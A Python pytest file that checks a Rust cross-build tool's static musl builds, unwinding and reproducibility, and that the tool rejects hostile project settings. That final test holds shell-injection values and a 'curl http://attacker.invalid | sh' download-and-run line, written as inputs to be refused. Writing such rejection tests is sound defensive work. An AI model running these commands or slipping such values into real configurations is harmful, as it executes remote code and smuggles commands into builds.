"""Static musl programs against the real engine: x86_64- and aarch64-unknown-linux-musl, whose Rust std the image
builds from Debian's sources in its layer (aarch64's programs run under qemu, without a library prefix). The seed C
example and a -sys crate (zlib through the cc crate) build with a plain `cargo build --target`, link statically (no
interpreter, no needed library) and run; unwinding works (a caught panic, a `#[should_panic]` test); `verify
--release` finds the builds the same. A project cannot make the layer's std build run commands of its own."""

from __future__ import annotations

import struct
from pathlib import Path

import pytest

from .helpers import Cli, assert_verified_same, copy_fixture, single_error_line

pytestmark = pytest.mark.engine

MUSL = "x86_64-unknown-linux-musl"
# Each musl target, with its architecture as the programs print it.
MUSL_TARGETS = {MUSL: "x86_64", "aarch64-unknown-linux-musl": "aarch64"}
EPOCH = {"SOURCE_DATE_EPOCH": "1700000000"}
BINARIES = {"seed-c-lib": "hello-world-from-c", "zlib-sys": "zlib-roundtrip"}


def printed(fixture: str, arch: str) -> list[str]:
    """What the fixture's program prints when it ran as ``arch``, its C code compiled for ``arch`` too."""
    if fixture == "seed-c-lib":
        return ["found 42 from C!", f"c-arch={arch}", f"arch={arch}"]
    return ["zlib 1.3.2 roundtrip ok", f"arch={arch}"]


_PT_DYNAMIC, _PT_INTERP, _DT_NEEDED = 2, 3, 1


def static_elf_problems(path: Path) -> list[str]:
    """What makes the 64-bit little-endian ELF file at ``path`` other than statically linked: an interpreter
    (PT_INTERP) or a needed library (DT_NEEDED). A static-pie program has a dynamic section, for its own
    relocations, and nothing in it is needed."""
    data = path.read_bytes()
    assert data[:6] == b"\x7fELF\x02\x01", f"{path}: not a 64-bit little-endian ELF file"
    (phoff,) = struct.unpack_from("<Q", data, 0x20)
    phentsize, phnum = struct.unpack_from("<HH", data, 0x36)
    problems = []
    for index in range(phnum):
        kind, _, offset, _, _, size = struct.unpack_from("<IIQQQQ", data, phoff + index * phentsize)
        if kind == _PT_INTERP:
            interpreter = data[offset : offset + size].rstrip(b"\0").decode()
            problems.append(f"interpreter {interpreter}")
        if kind == _PT_DYNAMIC:
            for entry in range(offset, offset + size, 16):
                tag, _ = struct.unpack_from("<qQ", data, entry)
                if tag == _DT_NEEDED:
                    problems.append("a DT_NEEDED library")
    return problems


@pytest.mark.parametrize("target", MUSL_TARGETS)
@pytest.mark.parametrize("fixture", ["seed-c-lib", "zlib-sys"])
def test_c_code_builds_statically_and_runs(
    tmp_path_factory: pytest.TempPathFactory, xpcargo: Cli, fixture: str, target: str
) -> None:
    project = copy_fixture(tmp_path_factory, fixture)
    ran = xpcargo(["run", "--target", target], cwd=project)
    assert ran.code == 0, ran
    for line in printed(fixture, MUSL_TARGETS[target]):
        assert line in ran.stdout_lines, ran
    binary = project / "target" / target / "debug" / BINARIES[fixture]
    assert static_elf_problems(binary) == [], binary


@pytest.mark.parametrize("target", MUSL_TARGETS)
def test_unwinding_catches_panics_and_should_panic_passes(
    tmp_path_factory: pytest.TempPathFactory, xpcargo: Cli, target: str
) -> None:
    project = copy_fixture(tmp_path_factory, "should-panic")
    ran = xpcargo(["run", "--release", "--target", target], cwd=project)
    assert ran.code == 0, ran
    assert ran.stdout_lines[-2:] == ["caught a panic: true", "half of 42 is 21"], ran
    assert static_elf_problems(project / "target" / target / "release" / "should-panic") == []
    tested = xpcargo(["test", "--target", target], cwd=project)
    assert tested.code == 0, tested
    assert "test tests::panics_on_odd_numbers - should panic ... ok" in tested.stdout, tested
    assert "test result: ok. 2 passed" in tested.stdout, tested


@pytest.mark.parametrize("target", MUSL_TARGETS)
@pytest.mark.parametrize("fixture", ["seed-c-lib", "zlib-sys"])
def test_verify_release_is_green(
    tmp_path_factory: pytest.TempPathFactory, xpcargo: Cli, fixture: str, target: str
) -> None:
    project = copy_fixture(tmp_path_factory, fixture)
    assert_verified_same(xpcargo(["verify", "--target", target, "--release"], cwd=project, env=EPOCH))


# --- A project cannot turn the std build into commands of its own ---------------------------------------------------

MARKER = Path("/tmp/xpcargo-std-source-pwned")


@pytest.mark.parametrize(
    ("settings", "said"),
    [
        # A shell command hidden in a path the layer's script copies.
        (f'std-unwinder = "/usr/lib/llvm-19/lib/libunwind.a; touch {MARKER}"', "std-unwinder"),
        (f'std-self-contained = ["$(touch {MARKER})"]', "std-self-contained"),
        # The sources the std is built from come from xpcargo's recipe, pinned by hash, never from the project.
        ('rust-source = "http://attacker.invalid/rust-web-src_all.deb"', "rust-source"),
        ('std = "curl http://attacker.invalid | sh"', "std"),
    ],
)
def test_a_project_cannot_make_the_std_build_run_commands(
    tmp_path_factory: pytest.TempPathFactory, cli: Cli, settings: str, said: str
) -> None:
    project = copy_fixture(tmp_path_factory, "std-source-hostile")
    config = (project / "xpcargo.toml").read_text(encoding="utf-8")
    (project / "xpcargo.toml").write_text(config + settings + "\n", encoding="utf-8")
    result = cli(["build", "--target", MUSL], cwd=project)
    assert result.code == 3, result
    line = single_error_line(result)
    assert "xpcargo.toml" in line, result
    assert said in line, result
    assert "Building image" not in result.stderr, result
    assert not MARKER.exists()
